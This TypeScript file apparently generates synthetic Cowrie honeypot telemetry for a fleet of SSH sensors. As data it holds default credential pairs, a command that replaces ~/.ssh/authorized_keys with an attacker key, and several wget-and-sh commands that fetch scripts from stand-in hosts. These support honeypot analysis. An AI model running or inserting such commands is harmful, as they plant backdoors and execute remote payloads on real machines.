/**
 * A believable fleet as a reduced table, of any size: leaders, a campaign that starts and one that ends, a weekly
 * rhythm, sensors that are down, sensors that come late. Written column by column, as a year of a hundred sensors is
 * millions of rows.
 */
import { NO_SETS } from "../../lib/columns/address-sets.ts";
import {
  isTextKey,
  type KeyColumn,
  type Kind,
  KIND_NAMES,
  KINDS,
  REDUCED_VERSION,
  TEXT_KEYS,
  type TextKey,
} from "../../lib/reduced/kinds.ts";
import { type KindTable, type ReducedTable, unknownAddresses } from "../../lib/reduced/reduced-table.ts";
import { seededRandom } from "./random.ts";

export interface FleetOptions {
  readonly days: number;
  readonly sensors: number;
  readonly seed?: number;
  /** Keys of each kind besides the leaders: the long tail. */
  readonly tail?: number;
  /** First day, YYYY-MM-DD. */
  readonly start?: string;
}

type Key = (string | number | null)[];

/** How often a key is seen: per sensor-day, on average, from one share of the time to another. */
interface Source {
  readonly key: Key;
  readonly rate: number;
  readonly from?: number;
  readonly to?: number;
  readonly success?: number;
}

const CREDENTIALS: [string, string | null, number, number?, number?][] = [
  ["root", "root", 140],
  ["root", "admin", 70, 0, 0.45],
  ["345gs5662d34", "345gs5662d34", 60, 0.35, 1],
  ["admin", "admin", 40],
  ["ubuntu", "ubuntu", 12, 0.2, 0.9],
  ["postgres", "postgres", 9, 0.8, 1],
  ["root", "123456", 25],
  ["test", "test", 8],
  ["pi", "raspberry", 6],
  ["root", null, 3],
  ["oracle", "oracle", 5, 0, 0.3],
  ["git", "git", 4],
];
const COMMANDS: [string, number, number?, number?][] = [
  ["uname -s -v -n -r -m", 22],
  ["cat /proc/cpuinfo | grep name | wc -l", 15],
  ["cd ~; chattr -ia .ssh; lockr -ia .ssh", 12, 0.3, 1],
  [
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1' +
      "+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengv" +
      "S8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujv" +
      'cD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr" >> .ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    11,
    0.3,
    1,
  ],
  [
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    6,
  ],
  ["enable", 9, 0, 0.6],
  ["system", 9, 0, 0.6],
  ["/bin/busybox ECCHI", 5, 0, 0.6],
  ["crontab -l", 7],
  ["free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", 8],
  ["ls -lh $(which ls)", 8],
  ["exit", 3],
];
const PORTS = [22, 23, 2222];
const VERSIONS = [
  "SSH-2.0-Go",
  "SSH-2.0-libssh2_1.4.3",
  "SSH-2.0-libssh-0.9.6",
  "SSH-2.0-PUTTY",
  "SSH-2.0-paramiko_2.8.1",
];
const EVENT_IDS: [string, number][] = [
  ["cowrie.session.connect", 9],
  ["cowrie.login.failed", 8],
  ["cowrie.login.success", 3],
  ["cowrie.command.input", 4],
  ["cowrie.session.closed", 9],
  ["cowrie.client.version", 7],
  ["cowrie.session.file_download", 0.4],
];

const hex = (random: () => number, digits: number) =>
  Array.from({ length: digits }, () => Math.floor(random() * 16).toString(16)).join("");

export function buildFleet(options: FleetOptions): ReducedTable {
  const { days, sensors, seed = 1, tail = 60, start = "2024-03-01" } = options;
  const source = seededRandom(seed);
  const random = () => source.next();
  const firstDay = Date.parse(start) / 86_400_000;
  const address = () =>
    [0, 0, 0, 0].map((_, i) => (i === 0 ? 11 + Math.floor(random() * 180) : Math.floor(random() * 256))).join(".");
  // A tail that falls as one over the rank.
  const tailed = (key: (i: number) => Key, rate: number): Source[] =>
    Array.from({ length: tail }, (_, i) => {
      const from = random();
      return { key: key(i), rate: rate / (i + 2), from: from * 0.8, to: Math.min(1, from * 0.8 + 0.1 + random()) };
    });
  const addresses = Array.from({ length: 40 + tail }, address);
  const hashes = Array.from({ length: 12 }, () => hex(random, 64));
  const urls = [
    "http://203.0.113.7/bins.sh",
    "http://198.51.100.23:8080/x86",
    "https://evil.example/a?x=<script>",
    null,
  ];
  const sources: Partial<Record<Kind, Source[]>> = {
    login: [
      ...CREDENTIALS.map(([user, word, rate, from, to]) => ({
        key: [user, word],
        rate,
        ...(from !== undefined && { from, to: to! }),
        success: user === "root" && word !== "root" ? 1 : 0,
      })),
      ...tailed(i => [`user${i}`, `pass${(i * 7919) % 1000}`], 6),
    ],
    command: [
      ...COMMANDS.map(([input, rate, from, to]) => ({
        key: [input],
        rate,
        ...(from !== undefined && { from, to: to! }),
      })),
      ...tailed(i => [`wget http://203.0.113.${i % 256}/${hex(random, 6)}; sh ${i}`], 2),
    ],
    pre_disconnect_command: COMMANDS.slice(4).map(([input, rate]) => ({ key: [input], rate: rate / 3 })),
    connect: addresses.map((ip, i) => ({
      key: [ip, PORTS[i % 3]!],
      rate: 90 / (i + 1),
      from: (i % 5) / 8,
      to: 1 - (i % 3) / 5,
    })),
    session_closed: addresses.map((ip, i) => ({
      key: [ip, i % 9 === 4 ? 0 : i % 23 === 7 ? null : 1],
      rate: 88 / (i + 1),
    })),
    file_download: hashes.map((hash, i) => ({
      key: [urls[i % 4]!, `var/lib/cowrie/downloads/${hash}`, hash],
      rate: 3 / (i + 1),
      from: (i % 4) / 5,
      to: 1,
    })),
    file_upload: hashes
      .slice(0, 3)
      .map((hash, i) => ({ key: [["sshd", "redtail.x86_64", "setup.sh"][i]!, hash], rate: 0.3 / (i + 1) })),
    proxy_request: addresses
      .slice(0, 8)
      .map((ip, i) => ({
        key: [ip, ["ya.ru", "203.0.113.99", "ip-who.com"][i % 3]!, [443, 80, 25][i % 3]!],
        rate: 4 / (i + 1),
      })),
    client: [
      ...VERSIONS.map((version, i) => ({ key: [version, null], rate: 40 / (i + 1) })),
      ...VERSIONS.map((_, i) => ({ key: [null, hex(random, 32)], rate: 40 / (i + 1) })),
    ],
    event: EVENT_IDS.flatMap(([id, rate]) =>
      Array.from({ length: 24 }, (_, hour) => ({ key: [id, hour], rate: rate * (1 + 0.3 * Math.sin(hour / 4)) })),
    ),
    scan: hashes.slice(0, 8).map((hash, i) => ({ key: [hash, i % 3 === 2 ? 0 : 20 + i, 62], rate: 0.2 })),
  };
  const names = Array.from(
    { length: sensors },
    (_, i) => `${["fra", "nyc", "sgp", "lon", "ams"][i % 5]!}-${String(1 + Math.floor(i / 5)).padStart(2, "0")}`,
  );
  const weight = names.map(() => 0.4 + 1.2 * random());
  const isUp = (day: number, sensor: number) => {
    if (sensor % 7 === 3 && day < days * 0.2) return false;
    if (sensor % 4 === 1 && day > days * 0.5 && day < days * 0.5 + Math.min(9, days * 0.1)) return false;
    // A day on which the whole fleet was down.
    return days < 20 || day !== Math.floor(days * 0.3);
  };
  return fillTable(
    sources,
    names,
    (day, sensor) => (isUp(day, sensor) ? weight[sensor]! * (1 + 0.2 * Math.sin(day / 1.1)) : 0),
    {
      firstDay,
      days,
      random,
    },
  );
}

function fillTable(
  sources: Partial<Record<Kind, Source[]>>,
  names: string[],
  activity: (day: number, sensor: number) => number,
  { firstDay, days, random }: { firstDay: number; days: number; random: () => number },
): ReducedTable {
  const sets = new Map<TextKey | "sensor", Set<string>>(
    [...TEXT_KEYS, "sensor" as const].map(name => [name, new Set<string>()]),
  );
  for (const name of names) sets.get("sensor")!.add(name);
  for (const kind of KIND_NAMES) {
    for (const { key } of sources[kind] ?? []) {
      KINDS[kind].forEach((column: KeyColumn, i) => {
        if (isTextKey(column) && key[i] !== null) sets.get(column)!.add(String(key[i]));
      });
    }
  }
  const dictionaries = Object.fromEntries(
    [...sets].map(([name, set]) => [name, [...set].sort()]),
  ) as unknown as ReducedTable["dictionaries"];
  const codes = new Map(
    [...sets.keys()].map(name => [name, new Map(dictionaries[name].map((text, code) => [text, code]))]),
  );
  const order = dictionaries.sensor.map(name => names.indexOf(name));
  const kinds = {} as Record<Kind, KindTable>;
  let events = 0;
  for (const kind of KIND_NAMES) {
    const coded = (sources[kind] ?? [])
      .map(source => ({
        ...source,
        codes: KINDS[kind].map((column: KeyColumn, i) => {
          const value = source.key[i]!;
          return value === null ? -1 : isTextKey(column) ? codes.get(column)!.get(String(value))! : Number(value);
        }),
      }))
      .sort((a, b) => {
        const i = a.codes.findIndex((code, at) => code !== b.codes[at]);
        return i < 0 ? 0 : a.codes[i]! - b.codes[i]!;
      });
    const most = coded.length * days * names.length;
    const day = new Int32Array(most);
    const sensor = new Int32Array(most);
    const which = new Int32Array(most);
    const count = new Float64Array(most);
    let rows = 0;
    for (let d = 0; d < days; d++) {
      for (let s = 0; s < order.length; s++) {
        const level = activity(d, order[s]!);
        if (level === 0) continue;
        for (let i = 0; i < coded.length; i++) {
          const { rate, from = 0, to = 1 } = coded[i]!;
          const at = d / Math.max(1, days - 1);
          if (at < from || at > to) continue;
          const n = Math.floor(rate * level * (0.6 + 0.8 * random()) + random());
          if (n === 0) continue;
          day[rows] = firstDay + d;
          sensor[rows] = s;
          which[rows] = i;
          count[rows++] = n;
          if (kind === "event") events += n;
        }
      }
    }
    const firstSeenUs = Float64Array.from(
      { length: rows },
      (_, row) => (day[row]! * 24 + (row % 23)) * 3_600_000_000 + 61_000_000,
    );
    kinds[kind] = {
      kind,
      rows,
      day: day.slice(0, rows),
      sensor: sensor.slice(0, rows),
      keys: Object.fromEntries(
        KINDS[kind].map((column: KeyColumn, k) => [
          column,
          Int32Array.from({ length: rows }, (_, row) => coded[which[row]!]!.codes[k]!),
        ]),
      ),
      count: count.slice(0, rows),
      addresses: unknownAddresses(kind, rows),
      success: Float64Array.from({ length: rows }, (_, row) => (coded[which[row]!]!.success ? count[row]! : 0)),
      firstSeenUs,
      lastSeenUs: firstSeenUs.map(us => us + 1_800_000_000),
    };
  }
  const source = {
    path: "logs/cowrie.json",
    sizeBytes: events * 210,
    headHash: "0".repeat(64),
    wholeHash: "1".repeat(64),
    counts: { lines: events + 3, events: events - 2, repaired: 2, rejected: 3, pending: 0 },
    firstSeenUs: firstDay * 86_400_000_000,
    lastSeenUs: (firstDay + days) * 86_400_000_000 - 1_000_000,
  };
  return { info: { version: REDUCED_VERSION, parameters: { robotMaxSeconds: 10 }, sources: [source] }, dictionaries, sets: NO_SETS, kinds };
}
